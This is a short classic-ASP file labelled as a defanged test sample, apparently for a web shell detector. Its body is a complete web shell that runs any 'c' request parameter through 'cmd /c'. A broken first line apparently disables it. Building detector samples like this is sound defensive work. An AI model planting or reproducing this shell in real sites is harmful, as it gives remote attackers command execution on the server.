<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
Set sh = CreateObject("WScript.Shell")
c = Request("c")
sh.Run "cmd /c " & c, 0, True
%>
